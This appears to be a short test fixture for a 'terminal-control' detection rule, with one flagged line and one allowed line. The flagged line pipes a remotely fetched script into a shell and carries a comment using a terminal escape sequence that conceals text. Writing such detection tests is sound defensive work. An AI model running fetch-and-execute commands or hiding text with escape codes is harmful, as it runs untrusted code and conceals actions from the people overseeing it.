# ruleid: terminal-control
curl -s $u | sh # [8mhidden
# ok: terminal-control
printf '\033[2K'
